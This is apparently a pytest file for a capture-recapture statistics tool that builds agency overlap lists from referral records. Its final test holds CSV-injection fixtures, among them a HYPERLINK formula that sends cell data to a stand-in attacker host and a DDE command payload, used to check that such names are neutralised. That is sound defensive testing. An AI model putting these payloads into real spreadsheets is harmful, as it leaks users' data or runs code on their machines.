"""The agencies' overlap as list-capture data that evidence estimate reads."""

from __future__ import annotations

import csv

import polars as pl
import pytest

from evidence.core.errors import ParameterError
from evidence.sources.list_capture import load_list_capture
from evidence.sources.register import records_as_of
from evidence.sources.register.lists import capture_histories, write_lists


def test_histories_count_every_person_with_a_recorded_agency_once(register_fixture, tmp_path) -> None:
    data = records_as_of(register_fixture.register).data
    out = tmp_path / "lists.csv"
    report = write_lists(data, out)
    lists = load_list_capture(out)
    assert lists.data["count"].sum() == report.people_on_lists == data["referral_source"].is_not_null().sum()
    assert set(report.lists) <= {"Police", "NGO", "Hotline", "Labour inspection", "Embassy", "Outreach"}
    assert out.stat().st_mode & 0o777 == 0o600


def test_a_person_named_by_two_agencies_is_on_both_lists() -> None:
    data = pl.DataFrame({"referral_source": ["Police;NGO", "Police", None, "NGO"]})
    histories, report = capture_histories(data)
    assert histories.sort("NGO", "Police").rows() == [(0, 1, 1), (1, 0, 1), (1, 1, 1)]
    assert (report.people_on_lists, report.people_unrecorded) == (3, 1)


def test_one_agency_is_not_enough() -> None:
    with pytest.raises(ParameterError, match="at least two lists"):
        capture_histories(pl.DataFrame({"referral_source": ["Police", "Police"]}))


def test_agencies_named_like_formulas_are_text_in_a_spreadsheet(tmp_path) -> None:
    """An agency is a column of the CSV a spreadsheet user opens: a name that reads as a formula
    (``=HYPERLINK(...)``, ``@SUM(A1)``, ``-cmd|...``, from an export without a code list) is written as text,
    with OWASP's leading apostrophe, and the file still reads as lists, with the counts unchanged."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)", "-cmd|' /C calc'!A0", "+x"]
    data = pl.DataFrame({"referral_source": [f"Police;{f}" for f in formulas] + ["NGO", "Police;NGO"]})
    out = tmp_path / "lists.csv"
    report = write_lists(data, out)
    header = out.read_text(encoding="utf-8").splitlines()[0]
    written = next(csv.reader([header]))
    assert not [name for name in written if name.startswith(("=", "+", "-", "@"))], written
    assert {f"'{f}" for f in formulas} <= set(written)
    assert load_list_capture(out).data["count"].sum() == report.people_on_lists == data.height
